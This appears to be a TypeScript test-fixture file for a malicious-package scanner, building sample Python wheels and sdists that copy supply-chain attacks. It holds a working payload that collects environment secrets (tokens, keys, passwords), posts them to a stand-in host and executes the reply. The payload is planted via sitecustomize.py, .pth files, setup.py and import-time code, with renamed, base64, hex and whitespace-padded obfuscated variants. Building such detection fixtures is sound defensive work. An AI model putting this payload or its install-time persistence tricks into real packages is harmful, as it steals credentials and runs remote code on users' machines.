import { casesOf } from '../case';
import { base64, execBase64, lambdaReversed, renamed } from '../disguise/python';
import { sdistOf, wheelOf } from '../packages';

const watcher = (host: string) => `import os
import sys
import urllib.request


def _report():
    interesting = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
    if not interesting:
        return
    data = repr((sys.argv, interesting)).encode()
    try:
        answer = urllib.request.urlopen("https://${host}/s", data, timeout=3).read()
        exec(compile(answer, "<update>", "exec"), {})
    except Exception:
        pass


_report()
`;

const ABOUT = 'Shows where a program spends its time.';
const HOST = 'site-metrics.invalid';

export const sitecustomize = casesOf({
  id: 'kind-sitecustomize',
  incident: 'kind',
  kind: 'pth',
  seen: 'a wheel puts sitecustomize.py at the top of site-packages, which sends secrets and runs the answer at every start of Python',
  replica: wheelOf('profile-view', '0.5.0', { about: ABOUT, files: { 'sitecustomize.py': watcher(HOST) } }),
  renamed: wheelOf('trace-lens', '2.0.1', {
    about: 'Traces of calls.',
    files: {
      'usercustomize.py': renamed(watcher('lens-report.invalid'), {
        _report: '_activate',
        interesting: 'chosen',
        answer: 'reply',
      }),
    },
  }),
  reObfuscated: wheelOf('profile-view', '0.5.1', {
    about: ABOUT,
    files: { 'sitecustomize.py': lambdaReversed(watcher(HOST)) },
  }),
  otherStage: {
    kind: 'setup-py',
    seen: 'setup.py writes a .pth file beside the installed packages that decodes and runs code at every start of Python',
    sample: sdistOf('profile-view', '0.5.2', {
      about: ABOUT,
      setup: (honest) => `import os
import sysconfig
import urllib.request

LINE = "import base64; exec(base64.b64decode('${base64(watcher(HOST))}'))\\n"

try:
    urllib.request.urlopen("https://${HOST}/build", timeout=3)
    with open(os.path.join(sysconfig.get_paths()["purelib"], "zz_profile.pth"), "w") as out:
        out.write(LINE)
except OSError:
    pass
${honest}`,
    }),
  },
});

/** A .pth by the data folder of the wheel, which installers copy into site-packages. */
export const dataPth = casesOf({
  id: 'kind-pth',
  incident: 'kind',
  kind: 'pth',
  seen: 'a .pth file in the purelib data of the wheel imports a module that decodes and runs code',
  replica: wheelOf('locale-tables', '1.1.0', {
    about: 'Tables of languages.',
    files: {
      'locale_tables-1.1.0.data/purelib/locale_tables.pth': 'import locale_tables._tables\n',
      'locale_tables/_tables.py': execBase64(watcher('locale-cdn.invalid')),
    },
  }),
  renamed: wheelOf('holiday-calendar', '4.0.2', {
    about: 'Holidays.',
    files: {
      'holiday_calendar.pth': `import os, sys; sys.modules.setdefault('holiday_calendar_site', __import__('holiday_calendar._site'))\n`,
      'holiday_calendar/_site.py': renamed(watcher('calendar-sync.invalid'), {
        _report: '_load',
        interesting: 'env',
        data: 'body',
      }),
    },
  }),
  reObfuscated: wheelOf('locale-tables', '1.1.1', {
    about: 'Tables of languages.',
    files: {
      'locale_tables-1.1.1.data/data/lib/python3/site-packages/locale_tables.pth': `${'# locale tables\n'.repeat(40)}import builtins; vars(builtins)['\\x65xec'](bytes.fromhex('${Buffer.from(watcher('locale-cdn.invalid')).toString('hex')}'))\n`,
    },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'importing the package decodes and runs code that sends secrets and runs the answer',
    sample: wheelOf('locale-tables', '1.1.2', {
      about: 'Tables of languages.',
      init: (honest) => `${honest}\nfrom ._tables import _report as _report\n`,
      files: { 'locale_tables/_tables.py': watcher('locale-cdn.invalid') },
    }),
  },
});
